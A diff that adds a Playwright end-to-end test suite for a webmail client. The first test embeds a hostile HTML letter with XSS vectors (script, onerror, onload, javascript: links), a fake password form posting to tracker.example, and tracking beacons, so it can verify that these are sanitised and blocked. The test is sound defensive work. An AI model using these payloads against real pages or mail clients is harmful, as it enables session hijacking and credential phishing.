@@ -1,0 +1,140 @@
+import { randomBytes } from 'node:crypto';
+import { expect, test } from './fixtures';
+import { countLetters, freshMessageId, openImap, place, submit } from './mail-clients';
+import { stack } from './stack';
+
+/** What a letter tries, so that the page runs it, tells somebody of it, or is fooled by it. */
+const hostile = `
+  <h1>Spring offer</h1><p>Everything at half its price.</p>
+  <script>parent.document.title = 'taken over'; fetch('http://tracker.example/script')</script>
+  <img src="x" onerror="parent.document.title = 'taken over'">
+  <img src="http://tracker.example/pixel.png" width="1" height="1">
+  <div style="background:url(http://tracker.example/style.png)">styled</div>
+  <link rel="stylesheet" href="http://tracker.example/sheet.css">
+  <form action="http://tracker.example/form"><input name="password"><button>Log in again</button></form>
+  <a href="javascript:parent.document.title='taken over'">Press me</a>
+  <svg onload="parent.document.title = 'taken over'"></svg>
+  <iframe src="http://tracker.example/frame"></iframe>
+  <base href="http://tracker.example/"><meta http-equiv="refresh" content="0;url=http://tracker.example/meta">`;
+
+test('folders show what is unread, and a letter is read with its HTML made safe', async ({ world, signIn }) => {
+  const { anna, ben } = world;
+  const from = `Ben <${ben.address}>`;
+  await place(anna, 'INBOX', { from, to: anna.address, subject: 'First', text: 'one' });
+  await place(anna, 'INBOX', {
+    from,
+    to: anna.address,
+    subject: '<script>alert(1)</script> & "half" price',
+    html: hostile,
+  });
+  await place(anna, 'Trash', { from, to: anna.address, subject: 'Old', text: 'gone' });
+
+  const page = await signIn(anna);
+  const elsewhere: string[] = [];
+  page.on('request', (request) => {
+    if (!request.url().startsWith(stack.url) && /^https?:/.test(request.url())) elsewhere.push(request.url());
+  });
+  const folders = page.getByRole('navigation', { name: 'Folders' });
+  await expect(folders.getByRole('link', { name: /Inbox/ })).toContainText('2');
+  await expect(folders.getByRole('link', { name: /Trash/ })).toBeVisible();
+
+  // The subject is text, as it was sent.
+  await page.getByRole('link', { name: /<script>alert\(1\)<\/script> & "half" price/ }).click();
+  const letter = page.frameLocator('iframe');
+  await expect(letter.getByText('Everything at half its price.')).toBeVisible();
+  await expect(letter.getByText('Press me')).toBeVisible();
+  await expect(page.getByText(/pictures? from tracker\.example blocked/)).toBeVisible();
+  expect(await letter.locator('script, form, iframe, link, meta[http-equiv=refresh], base[href]').count()).toBe(0);
+  expect(await letter.locator('[onerror], [onload], [href^="javascript:"]').count()).toBe(0);
+  await expect(page).not.toHaveTitle(/taken over/);
+  expect(elsewhere).toEqual([]);
+
+  // It is read now, everywhere.
+  await expect(folders.getByRole('link', { name: /Inbox/ })).toContainText('1');
+  const client = await openImap(anna);
+  await client.mailboxOpen('INBOX');
+  expect(await client.search({ seen: false }, { uid: true })).toHaveLength(1);
+  await client.logout();
+});
+
+test('a reply arrives in the other mailbox, through Postfix and LMTP', async ({ world, signIn }) => {
+  const { anna, ben } = world;
+  const messageId = freshMessageId();
+  await submit(ben, { from: ben.address, to: anna.address, subject: 'Lunch?', text: 'At noon?', messageId });
+
+  const page = await signIn(anna);
+  await page.getByRole('link', { name: /Lunch\?/ }).click();
+  // In the list and, opened, as the letter's text.
+  await expect(page.getByText('At noon?', { exact: true })).toHaveCount(2);
+  await page.getByRole('button', { name: 'Reply', exact: true }).first().click();
+  const compose = page.getByRole('textbox', { name: 'Message', exact: true });
+  await compose.pressSequentially('Yes, at noon.');
+  await page.getByRole('button', { name: 'Send', exact: true }).click();
+  await expect(page.getByText('Message sent')).toBeVisible();
+
+  const client = await openImap(ben);
+  await expect.poll(() => countLetters(client, 'Re: Lunch?')).toBe(1);
+  await client.mailboxOpen('INBOX');
+  const reply = await client.fetchOne('*', { envelope: true, headers: ['received', 'references'], source: true });
+  if (!reply) throw new Error('the reply cannot be fetched');
+  expect(reply.envelope?.inReplyTo).toBe(messageId);
+  expect(reply.source?.toString()).toContain('Yes, at noon.');
+  expect(reply.headers?.toString()).toMatch(/LMTP/);
+  expect(reply.headers?.toString()).toMatch(/Postfix/);
+  await client.logout();
+
+  // The sender has it among the sent ones, and the answered letter is marked.
+  await page.getByRole('navigation', { name: 'Folders' }).getByRole('link', { name: /Sent/ }).click();
+  await expect(page.getByRole('link', { name: /Re: Lunch\?/ })).toBeVisible();
+  const own = await openImap(anna);
+  await own.mailboxOpen('INBOX');
+  expect(await own.search({ answered: true }, { uid: true })).toHaveLength(1);
+  await own.logout();
+});
+
+test('a file attached to an answer arrives byte by byte', async ({ world, signIn }) => {
+  const { anna, ben } = world;
+  await place(anna, 'INBOX', { from: ben.address, to: anna.address, subject: 'The plan?', text: 'Please.' });
+  const page = await signIn(anna);
+  await page.getByRole('link', { name: /The plan\?/ }).click();
+  await page.getByRole('button', { name: 'Reply', exact: true }).first().click();
+  const bytes = randomBytes(300_000);
+  const chosen = page.waitForEvent('filechooser');
+  await page.getByRole('button', { name: 'Attach files' }).click();
+  await (await chosen).setFiles({ name: 'plan für März.bin', mimeType: 'application/octet-stream', buffer: bytes });
+  await expect(page.getByText('plan für März.bin')).toBeVisible();
+  await page.getByRole('textbox', { name: 'Message', exact: true }).pressSequentially('Here it is.');
+  await page.getByRole('button', { name: 'Send', exact: true }).click();
+  await expect(page.getByText('Message sent')).toBeVisible();
+
+  const client = await openImap(ben);
+  await expect.poll(() => countLetters(client, 'Re: The plan?')).toBe(1);
+  await client.mailboxOpen('INBOX');
+  const letter = await client.fetchOne('*', { bodyStructure: true });
+  const part = letter
+    ? letter.bodyStructure?.childNodes?.find(({ disposition }) => disposition === 'attachment')
+    : null;
+  expect(part?.dispositionParameters?.filename).toBe('plan für März.bin');
+  const file = await client.download('*', part?.part);
+  expect(bytes.equals(Buffer.concat((await file.content?.toArray()) ?? []))).toBe(true);
+  await client.logout();
+});
+
+test('new mail slides in by itself', async ({ world, signIn }) => {
+  const { anna, ben } = world;
+  const page = await signIn(anna);
+  await expect(page.getByText('New mail appears here by itself')).toBeVisible();
+  await submit(ben, { from: ben.address, to: anna.address, subject: 'Just now', text: 'x' });
+  await expect(page.getByRole('link', { name: /Just now/ })).toBeVisible();
+});
+
+test('what is put into the trash can be taken back', async ({ world, signIn }) => {
+  const { anna, ben } = world;
+  await place(anna, 'INBOX', { from: ben.address, to: anna.address, subject: 'Keep me', text: 'x' });
+  const page = await signIn(anna);
+  await page.getByRole('link', { name: /Keep me/ }).click();
+  await page.getByRole('button', { name: 'Delete', exact: true }).first().click();
+  await expect(page.getByRole('link', { name: /Keep me/ })).toHaveCount(0);
+  await page.getByRole('button', { name: 'Undo' }).click();
+  await expect(page.getByRole('link', { name: /Keep me/ })).toBeVisible();
+});
